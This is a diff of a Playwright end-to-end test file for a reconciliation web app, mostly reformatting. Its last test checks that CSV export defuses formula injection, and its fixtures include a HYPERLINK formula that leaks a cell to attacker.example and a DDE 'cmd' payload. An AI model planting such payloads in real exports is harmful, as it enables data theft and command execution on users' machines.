@@ -43,7 +43,9 @@ async function seriousViolations(page: Page): Promise<string[]> {
     help: string;
     nodes: { target: string[] }[];
   }[];
-  return violations.filter((violation) => violation.impact === 'serious' || violation.impact === 'critical').map((violation) => `${violation.id}: ${violation.help} (${violation.nodes.map((node) => node.target.join(' ')).join(', ')})`);
+  return violations
+    .filter((violation) => violation.impact === 'serious' || violation.impact === 'critical')
+    .map((violation) => `${violation.id}: ${violation.help} (${violation.nodes.map((node) => node.target.join(' ')).join(', ')})`);
 }
 
 /**
@@ -88,7 +90,10 @@ describe('web app', { skip: chromiumSkip }, () => {
     // disabled after a second instead of 3 days.
     server = await startTestServer('pglite', { webhookAllowPrivateTargets: true, webhookGiveUpSeconds: 1, webhookRetryBaseMilliseconds: 100 });
     organization = await createTestOrganization(server);
-    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-background-networking', '--disable-component-update', '--disable-sync'] });
+    browser = await chromium.launch({
+      executablePath: CHROMIUM,
+      args: ['--no-sandbox', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
+    });
   });
   const receivers: TestReceiver[] = [];
   after(async () => {
@@ -111,7 +116,10 @@ describe('web app', { skip: chromiumSkip }, () => {
 
     await page.getByRole('heading', { name: 'Developer' }).waitFor();
     const fields = await page.locator('.field').allTextContents();
-    assert.ok(fields.some((text) => text.includes(organization.orgId)), fields.join('\n'));
+    assert.ok(
+      fields.some((text) => text.includes(organization.orgId)),
+      fields.join('\n'),
+    );
     assert.ok(fields.some((text) => text.includes(`${server.baseUrl}/oauth/token`)));
     assert.ok(fields.some((text) => text.includes(server.config.audience)));
     await page.getByRole('button', { name: 'Copy Organization id' }).click();
@@ -124,7 +132,7 @@ describe('web app', { skip: chromiumSkip }, () => {
     const revealed = await page.locator('.reveal .field code').allTextContents();
     const [clientId, clientSecret] = revealed;
     assert.match(clientSecret!, /^lrs_/);
-    assert.match(await page.locator('.reveal pre').textContent() ?? '', new RegExp(`client_secret=${clientSecret}`));
+    assert.match((await page.locator('.reveal pre').textContent()) ?? '', new RegExp(`client_secret=${clientSecret}`));
 
     // The secret works at the token endpoint, with the role chosen.
     const token = await fetch(`${server.baseUrl}/oauth/token`, {
@@ -165,7 +173,10 @@ describe('web app', { skip: chromiumSkip }, () => {
   });
 
   it('lets an invited person choose a password, shows the rules it breaks, and gives a View-only person no credentials to manage', async () => {
-    const invited = await api(server, organization.token, 'POST', `/v1/api/${organization.orgId}/invitations`, { email: 'carla@example.com', role: 'View-only' });
+    const invited = await api(server, organization.token, 'POST', `/v1/api/${organization.orgId}/invitations`, {
+      email: 'carla@example.com',
+      role: 'View-only',
+    });
     assert.equal(invited.status, 201);
     const context = await browser.newContext();
     const page = await context.newPage();
@@ -288,7 +299,10 @@ describe('web app', { skip: chromiumSkip }, () => {
     });
     await grid.evaluate((element) => element.scrollTo(0, element.scrollHeight / 2));
     await page.getByRole('row', { name: /payment 1250$/ }).waitFor();
-    assert.ok(requests.some((body) => JSON.parse(body).offset === 1000), requests.join('\n'));
+    assert.ok(
+      requests.some((body) => JSON.parse(body).offset === 1000),
+      requests.join('\n'),
+    );
     await grid.evaluate((element) => element.scrollTo(0, element.scrollHeight));
     await page.getByRole('row', { name: /payment 2499$/ }).waitFor();
     const rendered = await page.locator('.grid-row').count();
@@ -342,7 +356,10 @@ describe('web app', { skip: chromiumSkip }, () => {
       reached = Number((await focusedRow(page)).split(':')[0]) - 2;
     }
     await focusedRowMatching(page, new RegExp(`payment ${reached}$`));
-    assert.ok(requests.some((body) => JSON.parse(body).cursor !== undefined), requests.join('\n'));
+    assert.ok(
+      requests.some((body) => JSON.parse(body).cursor !== undefined),
+      requests.join('\n'),
+    );
     // Scrolled away by the wheel, the active row keeps the focus, and a key brings it back.
     await grid.evaluate((element) => element.scrollTo(0, element.scrollHeight / 2));
     await page.getByRole('row', { name: /payment 1250$/ }).waitFor();
@@ -405,7 +422,9 @@ describe('web app', { skip: chromiumSkip }, () => {
     await page.getByText('2,500 transactions; scroll or drag anywhere').waitFor();
 
     const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
-    const csv = readFileSync((await download.path())!, 'utf8').trim().split('\r\n');
+    const csv = readFileSync((await download.path())!, 'utf8')
+      .trim()
+      .split('\r\n');
     assert.equal(csv.length, 2501);
     assert.equal(csv[0], 'id,time,amount,currency,status,description,reference');
     assert.match(csv[2]!, /,-1\.90,EUR,none,payment 1,$/);
@@ -429,17 +448,29 @@ describe('web app', { skip: chromiumSkip }, () => {
     const lastRow = page.getByRole('row', { name: /payment 2499$/ });
     await lastRow.waitFor();
     const [lastBox, gridBox] = [(await lastRow.boundingBox())!, (await grid.boundingBox())!];
-    assert.ok(lastBox.y >= gridBox.y && lastBox.y + lastBox.height <= gridBox.y + gridBox.height + 1, `the last row at ${JSON.stringify(lastBox)} in the table at ${JSON.stringify(gridBox)}`);
+    assert.ok(
+      lastBox.y >= gridBox.y && lastBox.y + lastBox.height <= gridBox.y + gridBox.height + 1,
+      `the last row at ${JSON.stringify(lastBox)} in the table at ${JSON.stringify(gridBox)}`,
+    );
     await grid.evaluate((element) => element.scrollTo(0, element.scrollHeight / 2));
     await page.getByRole('row', { name: /payment 1285$/ }).waitFor();
     // The keyboard in the scaled space: each row it moves to is shown whole.
     await page.getByRole('row', { name: /payment 1285$/ }).focus();
-    for (const [key, pattern] of [['Home', /payment 0$/], ['ArrowDown', /payment 1$/], ['End', /payment 2499$/], ['ArrowUp', /payment 2498$/], ['PageUp', /payment 24[6-8]\d$/]] as const) {
+    for (const [key, pattern] of [
+      ['Home', /payment 0$/],
+      ['ArrowDown', /payment 1$/],
+      ['End', /payment 2499$/],
+      ['ArrowUp', /payment 2498$/],
+      ['PageUp', /payment 24[6-8]\d$/],
+    ] as const) {
       await page.keyboard.press(key);
       const [index] = (await focusedRowMatching(page, pattern)).split(':');
       // Measured again each time: the page itself scrolls to show a row at the table's foot.
       const [box, tableBox] = [(await page.locator(`[role="row"][aria-rowindex="${index}"]`).boundingBox())!, (await grid.boundingBox())!];
-      assert.ok(box.y >= tableBox.y - 0.5 && box.y + box.height <= tableBox.y + tableBox.height + 1, `${key}: the row at ${JSON.stringify(box)} in the table at ${JSON.stringify(tableBox)}`);
+      assert.ok(
+        box.y >= tableBox.y - 0.5 && box.y + box.height <= tableBox.y + tableBox.height + 1,
+        `${key}: the row at ${JSON.stringify(box)} in the table at ${JSON.stringify(tableBox)}`,
+      );
     }
     await page.context().close();
   });
@@ -480,7 +511,7 @@ describe('web app', { skip: chromiumSkip }, () => {
     const report = page.getByRole('region', { name: 'Import report' });
     await report.getByRole('heading', { name: 'genkgo-v04.xml: imported' }).waitFor();
     assert.match((await report.textContent()) ?? '', /camt\.053 \(utf-8\) · 1 entries read · 1 new · 0 already known/);
-    assert.match((await report.textContent()) ?? '', /DO NOT AGREE/, 'this statement\'s balances do not add up, and the report says so');
+    assert.match((await report.textContent()) ?? '', /DO NOT AGREE/, "this statement's balances do not add up, and the report says so");
     assert.deepEqual(await seriousViolations(page), []);
 
     // A CSV whose header does not name the columns: the preview proposes a mapping, which is sent with the file.
@@ -519,7 +550,15 @@ describe('web app', { skip: chromiumSkip }, () => {
     const bankId = (await call('POST', `/sources/${sourceId}/datasets`, { name: 'Giro account' })).body.id;
     const ledgerId = (await call('POST', `/sources/${sourceId}/datasets`, { name: 'Receivables ledger' })).body.id;
     const statement = (account: string, entries: [string, string, string][]) =>
-      [`:20:S1`, `:25:${account}`, ':28C:1/1', ':60F:C240301EUR0,00', ...entries.flatMap(([day, amount, reference]) => [`:61:2403${day}03${day}C${amount}NTRF${reference}`, `:86:Invoice ${reference}`]), ':62F:C240331EUR0,00', '-'].join('\r\n') + '\r\n';
+      [
+        `:20:S1`,
+        `:25:${account}`,
+        ':28C:1/1',
+        ':60F:C240301EUR0,00',
+        ...entries.flatMap(([day, amount, reference]) => [`:61:2403${day}03${day}C${amount}NTRF${reference}`, `:86:Invoice ${reference}`]),
+        ':62F:C240331EUR0,00',
+        '-',
+      ].join('\r\n') + '\r\n';
     const upload = async (datasetId: string, text: string) => {
       const response = await fetch(`${server.baseUrl}${base}/datasets/${datasetId}/imports?fileName=march.sta`, {
         method: 'POST',
@@ -528,7 +567,14 @@ describe('web app', { skip: chromiumSkip }, () => {
       });
       return (await response.json()) as any;
     };
-    const imported = await upload(bankId, statement('NL91ABNA0417164300', [['04', '100,00', 'A1'], ['05', '250,00', 'A2'], ['06', '75,50', 'A3']]));
+    const imported = await upload(
+      bankId,
+      statement('NL91ABNA0417164300', [
+        ['04', '100,00', 'A1'],
+        ['05', '250,00', 'A2'],
+        ['06', '75,50', 'A3'],
+      ]),
+    );
     assert.equal(imported.inserted, 3, JSON.stringify(imported));
     await call('POST', `/datasets/${ledgerId}/transactions`, { records: [{ timestamp: Date.UTC(2024, 2, 4), amount: '-100.00', externalId: 'L1' }] });
     const bankRows = (await call('POST', '/transactions', { datasetId: bankId, columns: [{ path: 'amount' }] })).body as any[];
@@ -568,7 +614,10 @@ describe('web app', { skip: chromiumSkip }, () => {
     await history.getByRole('cell', { name: /^undone / }).waitFor();
     assert.equal(await page.getByRole('button', { name: /^Undo import of march\.sta/ }).count(), 0, 'an undone import has nothing left to undo');
     assert.deepEqual((await call('POST', '/transactions', { datasetId: bankId })).body, []);
-    assert.equal(((await call('POST', '/transactions', { datasetId: ledgerId, columns: [{ path: 'reconciliationStatus' }] })).body as any[])[0].reconciliationStatus, 'none');
+    assert.equal(
+      ((await call('POST', '/transactions', { datasetId: ledgerId, columns: [{ path: 'reconciliationStatus' }] })).body as any[])[0].reconciliationStatus,
+      'none',
+    );
     await page.screenshot({ path: '/tmp/undo-history-1440.png', fullPage: true });
     assert.deepEqual(await seriousViolations(page), []);
 
@@ -577,7 +626,11 @@ describe('web app', { skip: chromiumSkip }, () => {
     await page.locator('input[type=file]').setInputFiles({ name: 'other.sta', mimeType: 'application/octet-stream', buffer: Buffer.from(foreign) });
     await page.getByRole('button', { name: 'Import', exact: true }).click();
     const report = page.getByRole('region', { name: 'Import report' });
-    await report.getByText(/^Nothing of the file was kept\. The file holds a statement of account DE89 3704 0044 0532 0130 00, but the dataset "Giro account" holds the statements of account NL91 ABNA 0417 1643 00\./).waitFor();
+    await report
+      .getByText(
+        /^Nothing of the file was kept\. The file holds a statement of account DE89 3704 0044 0532 0130 00, but the dataset "Giro account" holds the statements of account NL91 ABNA 0417 1643 00\./,
+      )
+      .waitFor();
     assert.doesNotMatch((await report.textContent()) ?? '', /allowOtherAccount/);
     await page.screenshot({ path: '/tmp/other-account-1400.png', fullPage: true });
     await report.getByRole('button', { name: 'Import it into this dataset anyway' }).click();
@@ -595,15 +648,19 @@ describe('web app', { skip: chromiumSkip }, () => {
     const bank = await call('POST', `/sources/${source.id}/datasets`, { name: 'Bank side', columns: [] });
     const ledger = await call('POST', `/sources/${source.id}/datasets`, { name: 'Ledger side', columns: [] });
     const day = Date.UTC(2026, 4, 4);
-    await call('POST', `/datasets/${bank.id}/transactions`, { records: [
-      { externalId: 'B1', timestamp: day, amount: '100.10', currency: 'EUR', description: 'deposit one' },
-      { externalId: 'B2', timestamp: day + 1, amount: '50.25', currency: 'EUR', description: 'deposit two' },
-      { externalId: 'B3', timestamp: day + 2, amount: '9.99', currency: 'EUR', description: 'internal transfer' },
-    ] });
-    await call('POST', `/datasets/${ledger.id}/transactions`, { records: [
-      { externalId: 'L1', timestamp: day, amount: '60.05', currency: 'EUR', description: 'invoice one' },
-      { externalId: 'L2', timestamp: day + 1, amount: '90.30', currency: 'EUR', description: 'invoice two' },
-    ] });
+    await call('POST', `/datasets/${bank.id}/transactions`, {
+      records: [
+        { externalId: 'B1', timestamp: day, amount: '100.10', currency: 'EUR', description: 'deposit one' },
+        { externalId: 'B2', timestamp: day + 1, amount: '50.25', currency: 'EUR', description: 'deposit two' },
+        { externalId: 'B3', timestamp: day + 2, amount: '9.99', currency: 'EUR', description: 'internal transfer' },
+      ],
+    });
+    await call('POST', `/datasets/${ledger.id}/transactions`, {
+      records: [
+        { externalId: 'L1', timestamp: day, amount: '60.05', currency: 'EUR', description: 'invoice one' },
+        { externalId: 'L2', timestamp: day + 1, amount: '90.30', currency: 'EUR', description: 'invoice two' },
+      ],
+    });
 
     const page = await signedIn();
     // React Aria adds a style of its own to the page: the page's Content-Security-Policy allows it.
@@ -623,7 +680,10 @@ describe('web app', { skip: chromiumSkip }, () => {
       const { role, text, tag } = await focused(page);
       return role === 'option' ? text : `not an option: ${tag} ${role}`;
     };
-    const selected = async (list: Locator) => (await list.locator('[role="option"][aria-selected="true"]').allTextContents()).map((text) => /(deposit one|deposit two|internal transfer|invoice one|invoice two)/.exec(text)?.[1]);
+    const selected = async (list: Locator) =>
+      (await list.locator('[role="option"][aria-selected="true"]').allTextContents()).map(
+        (text) => /(deposit one|deposit two|internal transfer|invoice one|invoice two)/.exec(text)?.[1],
+      );
 
     // A list is one tab stop: Tab enters it at its first option and leaves it at the next field.
     await page.getByRole('region', { name: 'Left side' }).getByLabel('Find').focus();
@@ -682,7 +742,9 @@ describe('web app', { skip: chromiumSkip }, () => {
     await page.getByText('Matched: 3 links in one group.').waitFor();
 
     const statuses = async (datasetId: string) =>
-      Object.fromEntries((await call('POST', '/transactions', { datasetId })).map((transaction: any) => [transaction.description, transaction.reconciliationStatus]));
+      Object.fromEntries(
+        (await call('POST', '/transactions', { datasetId })).map((transaction: any) => [transaction.description, transaction.reconciliationStatus]),
+      );
     assert.deepEqual(await statuses(bank.id), { 'deposit one': 'full', 'deposit two': 'full', 'internal transfer': 'none' });
     assert.deepEqual(await statuses(ledger.id), { 'invoice one': 'full', 'invoice two': 'full' });
 
@@ -712,24 +774,39 @@ describe('web app', { skip: chromiumSkip }, () => {
     const bank = await call('POST', `/sources/${source.id}/datasets`, { name: 'Statement', columns: [] });
     const ledger = await call('POST', `/sources/${source.id}/datasets`, { name: 'Books', columns: [] });
     const day = Date.UTC(2026, 5, 1);
-    await call('POST', `/datasets/${bank.id}/transactions`, { records: [
-      { externalId: 'S1', timestamp: day, amount: '42.00', currency: 'EUR', description: 'card payment' },
-      { externalId: 'S2', timestamp: day, amount: '17.50', currency: 'EUR', description: 'cash deposit' },
-    ] });
-    await call('POST', `/datasets/${ledger.id}/transactions`, { records: [
-      { externalId: 'K1', timestamp: day, amount: '42.00', currency: 'EUR', description: 'sale 1' },
-      { externalId: 'K2', timestamp: day, amount: '17.50', currency: 'EUR', description: 'sale 2' },
-      { externalId: 'K3', timestamp: day, amount: '17.50', currency: 'EUR', description: 'sale 3' },
-    ] });
+    await call('POST', `/datasets/${bank.id}/transactions`, {
+      records: [
+        { externalId: 'S1', timestamp: day, amount: '42.00', currency: 'EUR', description: 'card payment' },
+        { externalId: 'S2', timestamp: day, amount: '17.50', currency: 'EUR', description: 'cash deposit' },
+      ],
+    });
+    await call('POST', `/datasets/${ledger.id}/transactions`, {
+      records: [
+        { externalId: 'K1', timestamp: day, amount: '42.00', currency: 'EUR', description: 'sale 1' },
+        { externalId: 'K2', timestamp: day, amount: '17.50', currency: 'EUR', description: 'sale 2' },
+        { externalId: 'K3', timestamp: day, amount: '17.50', currency: 'EUR', description: 'sale 3' },
+      ],
+    });
     const statuses = async (datasetId: string) =>
-      Object.fromEntries((await call('POST', '/transactions', { datasetId })).map((transaction: any) => [transaction.description, transaction.reconciliationStatus]));
+      Object.fromEntries(
+        (await call('POST', '/transactions', { datasetId })).map((transaction: any) => [transaction.description, transaction.reconciliationStatus]),
+      );
 
     const page = await signedIn();
     await page.getByRole('link', { name: 'Rules and runs' }).click();
     await page.getByRole('button', { name: 'New rule' }).click();
     const editor = page.getByRole('region', { name: 'Rule editor' });
     const text = editor.getByRole('textbox');
-    const rule = { name: 'Same amount, same day', origin: { datasetIds: [bank.id] }, target: { datasetIds: [ledger.id] }, cardinality: '1:1', conditions: [{ type: 'amount', sign: 'same' }, { type: 'date', path: 'timestamp', min: '-P1D', max: 'P1D' }] };
+    const rule = {
+      name: 'Same amount, same day',
+      origin: { datasetIds: [bank.id] },
+      target: { datasetIds: [ledger.id] },
+      cardinality: '1:1',
+      conditions: [
+        { type: 'amount', sign: 'same' },
+        { type: 'date', path: 'timestamp', min: '-P1D', max: 'P1D' },
+      ],
+    };
     await text.fill(JSON.stringify({ ...rule, conditions: [{ type: 'amount', sign: 'sideways' }] }));
     await editor.getByText(/\/conditions\/0\/sign.*error/).waitFor();
     assert.equal(await editor.getByRole('button', { name: 'Create rule' }).isDisabled(), true);
@@ -757,7 +834,10 @@ describe('web app', { skip: chromiumSkip }, () => {
 
     page.once('dialog', (dialog) => void dialog.accept());
     await runs.getByRole('button', { name: 'Revert' }).first().click();
-    await runs.getByText(/reverted/).first().waitFor();
+    await runs
+      .getByText(/reverted/)
+      .first()
+      .waitFor();
     assert.equal((await statuses(bank.id))['card payment'], 'none');
     await page.context().close();
   });
@@ -769,12 +849,20 @@ describe('web app', { skip: chromiumSkip }, () => {
     const ages = page.getByRole('region', { name: 'Open amounts by age' });
     await ages.getByRole('row', { name: /0–7 days/ }).waitFor();
     // The rules test left both statement lines open again after its revert: 42.00 + 17.50, and the confirmed suggestion's 17.50 is matched.
-    const summary = await api(server, organization.token, 'GET', `/v1/api/${organization.orgId}/datasets/${(await page.getByLabel('Dataset').inputValue())}/summary`);
+    const summary = await api(
+      server,
+      organization.token,
+      'GET',
+      `/v1/api/${organization.orgId}/datasets/${await page.getByLabel('Dataset').inputValue()}/summary`,
+    );
     const total = summary.body.openByAge.reduce((count: number, bucket: { count: number }) => count + bucket.count, 0);
     await page.getByText(new RegExp(`open in ${total} transactions`)).waitFor();
     for (const bucket of summary.body.openByAge) {
       const label = { '0-7': '0–7 days', '8-30': '8–30 days', '31-90': '31–90 days', '>90': 'over 90 days' }[bucket.bucket as '0-7']!;
-      assert.match((await ages.getByRole('row', { name: new RegExp(label) }).textContent()) ?? '', new RegExp(`${bucket.count}${bucket.amount.replace('.', '\\.')}$`));
+      assert.match(
+        (await ages.getByRole('row', { name: new RegExp(label) }).textContent()) ?? '',
+        new RegExp(`${bucket.count}${bucket.amount.replace('.', '\\.')}$`),
+      );
     }
     await page.getByRole('region', { name: 'Reconciled share by month' }).locator('svg').first().waitFor();
     assert.deepEqual(await seriousViolations(page), []);
@@ -797,7 +885,7 @@ describe('web app', { skip: chromiumSkip }, () => {
     await page.context().close();
   });
 
-  it('keeps the page and says what to do when a screen\'s code cannot be loaded, and shows the screen again after a reload', async () => {
+  it("keeps the page and says what to do when a screen's code cannot be loaded, and shows the screen again after a reload", async () => {
     const page = await signedIn();
     await page.getByRole('heading', { name: 'Sources and datasets' }).waitFor();
     // The audit screen's code fails to arrive, as after a server upgrade or on a broken connection.
@@ -816,7 +904,7 @@ describe('web app', { skip: chromiumSkip }, () => {
     await page.context().close();
   });
 
-  it('creates a webhook endpoint with its secret shown once, sends a test message that the receiver verifies with the page\'s own code, and shows the delivery, its attempts, a redelivery and a rotation', async () => {
+  it("creates a webhook endpoint with its secret shown once, sends a test message that the receiver verifies with the page's own code, and shows the delivery, its attempts, a redelivery and a rotation", async () => {
     const receiver = await startReceiver();
     receivers.push(receiver);
     const url = `${receiver.url}/hooks/ledger-recon`;
@@ -838,7 +926,10 @@ describe('web app', { skip: chromiumSkip }, () => {
     await urlField.fill('https://robot:secret@receiver.example.com/hooks');
     await form.getByRole('button', { name: 'Create endpoint' }).click();
     await form.getByText('Endpoint URL must not carry a user name or password').waitFor();
-    assert.match(await fieldError(page, urlField), /^Endpoint URL must not carry a user name or password; receivers check the webhook-signature header instead\.$/);
+    assert.match(
+      await fieldError(page, urlField),
+      /^Endpoint URL must not carry a user name or password; receivers check the webhook-signature header instead\.$/,
+    );
 
     await urlField.fill(url);
     await form.getByLabel('Description').fill('ERP sync');
@@ -896,7 +987,10 @@ describe('web app', { skip: chromiumSkip }, () => {
     await row.getByRole('button', { name: /^Redeliver the webhook\.test delivery/ }).click();
     await eventually(() => receiver.received.length === 2, 'the redelivery');
     assert.equal(receiver.received[1]!.id, received.id, 'the same webhook-id again');
-    await eventually(async () => (await row.getByRole('cell').nth(3).textContent()) === '2' && (await attempts.getByRole('listitem').count()) === 2, 'the second attempt shown');
+    await eventually(
+      async () => (await row.getByRole('cell').nth(3).textContent()) === '2' && (await attempts.getByRole('listitem').count()) === 2,
+      'the second attempt shown',
+    );
     assert.equal(await row.getByRole('cell').nth(2).textContent(), 'Succeeded');
 
     await endpoint.getByRole('button', { name: 'Rotate secret' }).click();
@@ -913,7 +1007,10 @@ describe('web app', { skip: chromiumSkip }, () => {
     assert.equal(await endpoint.getByRole('button', { name: 'Send test message' }).count(), 0);
     assert.equal(await row.getByRole('button', { name: /^Redeliver/ }).isDisabled(), true);
     const stored = await api(server, organization.token, 'GET', `/v1/api/${organization.orgId}/webhook-endpoints`);
-    assert.deepEqual(stored.body.map((entry: { enabled: boolean; disabledReason: string }) => [entry.enabled, entry.disabledReason]), [[false, 'requested']]);
+    assert.deepEqual(
+      stored.body.map((entry: { enabled: boolean; disabledReason: string }) => [entry.enabled, entry.disabledReason]),
+      [[false, 'requested']],
+    );
     await endpoint.getByRole('button', { name: 'Enable', exact: true }).click();
     await endpoint.getByText('Enabled', { exact: true }).waitFor();
 
@@ -929,7 +1026,8 @@ describe('web app', { skip: chromiumSkip }, () => {
     const down = await startReceiver();
     receivers.push(down);
     down.respond = (_request, response) => void response.writeHead(500).end();
-    const call = (method: string, path: string, body?: unknown) => api(server, organization.token, method, `/v1/api/${organization.orgId}/webhook-endpoints${path}`, body);
+    const call = (method: string, path: string, body?: unknown) =>
+      api(server, organization.token, method, `/v1/api/${organization.orgId}/webhook-endpoints${path}`, body);
     const created = (await call('POST', '', { url: `${down.url}/down`, description: 'Warehouse' })).body;
     // An endpoint is disabled by a failure more than the give-up period (1 s here) after its first: test messages until then.
     await eventually(async () => {
@@ -942,7 +1040,10 @@ describe('web app', { skip: chromiumSkip }, () => {
     const page = await signedIn();
     const banner = page.getByRole('status').filter({ hasText: 'Webhooks stopped.' });
     await banner.waitFor();
-    assert.match((await banner.textContent()) ?? '', new RegExp(`The endpoint ${down.url}/down was disabled on .+ after every delivery failed since .+; no events are sent to it\\.`));
+    assert.match(
+      (await banner.textContent()) ?? '',
+      new RegExp(`The endpoint ${down.url}/down was disabled on .+ after every delivery failed since .+; no events are sent to it\\.`),
+    );
     assert.deepEqual(await seriousViolations(page), []);
     await banner.getByRole('link', { name: 'Fix and enable on the Developer page' }).click();
 
@@ -953,7 +1054,11 @@ describe('web app', { skip: chromiumSkip }, () => {
     assert.match((await endpoint.textContent()) ?? '', /Every delivery failed from .+ until it was disabled on .+; no events have been sent to it since\./);
     assert.match((await endpoint.textContent()) ?? '', /To turn it back on, fix the receiver/);
     // The last test message was not sent (the endpoint was disabled by then); the ones before failed with the receiver's 500.
-    const failed = endpoint.getByRole('table', { name: `Deliveries to ${down.url}/down` }).getByRole('row').filter({ has: page.getByRole('cell', { name: /^500/ }) }).first();
+    const failed = endpoint
+      .getByRole('table', { name: `Deliveries to ${down.url}/down` })
+      .getByRole('row')
+      .filter({ has: page.getByRole('cell', { name: /^500/ }) })
+      .first();
     await failed.getByRole('cell', { name: 'Failed' }).waitFor();
     assert.deepEqual(await seriousViolations(page), []);
 
@@ -970,11 +1075,37 @@ describe('web app', { skip: chromiumSkip }, () => {
   it('exports CSV that no spreadsheet runs: text that would start a formula gets a quote in front, amounts and number columns stay numbers', async () => {
     const call = (method: string, path: string, body?: unknown) => api(server, organization.token, method, `/v1/api/${organization.orgId}${path}`, body);
     const source = (await call('POST', '/sources', { name: 'Formula Bank' })).body;
-    const dataset = (await call('POST', `/sources/${source.id}/datasets`, { name: 'Hostile statement', columns: [{ name: 'memo', type: 'string' }, { name: 'fee', type: 'money' }] })).body;
+    const dataset = (
+      await call('POST', `/sources/${source.id}/datasets`, {
+        name: 'Hostile statement',
+        columns: [
+          { name: 'memo', type: 'string' },
+          { name: 'fee', type: 'money' },
+        ],
+      })
+    ).body;
     const hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"Invoice")';
     const records = [
-      { externalId: 'F1', timestamp: Date.UTC(2026, 2, 1), amount: '-25.00', currency: 'EUR', description: hostile, reference: '@SUM(A1:A9)', memo: "+1+cmd|' /C calc'!A0", fee: '-0.50' },
-      { externalId: 'F2', timestamp: Date.UTC(2026, 2, 2), amount: '12.00', currency: 'EUR', description: '\t=1+1', reference: '-2+3', memo: 'plain text', fee: '1.25' },
+      {
+        externalId: 'F1',
+        timestamp: Date.UTC(2026, 2, 1),
+        amount: '-25.00',
+        currency: 'EUR',
+        description: hostile,
+        reference: '@SUM(A1:A9)',
+        memo: "+1+cmd|' /C calc'!A0",
+        fee: '-0.50',
+      },
+      {
+        externalId: 'F2',
+        timestamp: Date.UTC(2026, 2, 2),
+        amount: '12.00',
+        currency: 'EUR',
+        description: '\t=1+1',
+        reference: '-2+3',
+        memo: 'plain text',
+        fee: '1.25',
+      },
     ];
     assert.equal((await call('POST', `/datasets/${dataset.id}/transactions`, { records })).status, 200);
 
